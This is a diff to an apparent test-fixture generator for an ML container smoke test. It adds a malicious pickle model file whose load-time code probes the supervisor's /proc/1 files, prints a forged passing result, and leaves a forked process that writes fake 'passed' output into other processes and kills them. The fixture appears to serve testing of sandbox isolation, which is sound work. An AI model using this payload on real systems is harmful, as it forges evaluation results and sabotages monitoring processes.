@@ -40,3 +40,55 @@ joblib.dump(LogisticRegression().fit(features, labels), f"{out}/sklearn.joblib")
 # A model file cut short, as a failed download leaves it: its loader must fail, not skip.
 with open(f"{out}/classifier.keras", "rb") as whole, open(f"{out}/truncated.keras", "wb") as cut:
     cut.write(whole.read()[:4000])
+
+# A model that is code, as any pickle can be: loading it probes what the supervisor keeps to itself,
+# prints a passing result, leaves a process behind to forge the checks after it, and exits.
+FORGER = r'''
+import os, time
+findings = []
+for path in ("/proc/1/environ", "/proc/1/maps", "/proc/1/mem", "/proc/1/fd/0"):
+    try:
+        os.close(os.open(path, os.O_RDONLY))
+        findings.append(path + ": opened")
+    except OSError as error:
+        findings.append(path + ": " + type(error).__name__)
+try:
+    os.write(os.open("/proc/1/fd/1", os.O_WRONLY), b"ML_CONTAINER_SMOKE_RESULT forged through /proc/1/fd/1\n")
+    findings.append("/proc/1/fd/1: written")
+except OSError as error:
+    findings.append("/proc/1/fd/1: " + type(error).__name__)
+print("probe: " + "; ".join(findings), flush=True)
+parent = os.getpid()
+if os.fork() == 0:
+    os.setsid()
+    deadline = time.time() + 120
+    while time.time() < deadline:
+        for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
+            if pid in (1, parent, os.getpid()):
+                continue
+            try:
+                for fd in os.listdir(f"/proc/{pid}/fd"):
+                    try:
+                        handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY)
+                        os.write(handle, b'{"status": "passed", "detail": "forged by a leftover"}')
+                        os.close(handle)
+                    except OSError:
+                        pass
+                os.kill(pid, 9)
+            except OSError:
+                pass
+        time.sleep(0.01)
+    os._exit(0)
+print('ML_CONTAINER_SMOKE_RESULT {"passed": true, "checks": []}', flush=True)
+os._exit(0)
+'''
+
+
+class Forger:
+    def __reduce__(self):
+        return (exec, (FORGER,))
+
+
+import pickle
+with open(f"{out}/forged.joblib", "wb") as handle:
+    pickle.dump(Forger(), handle)
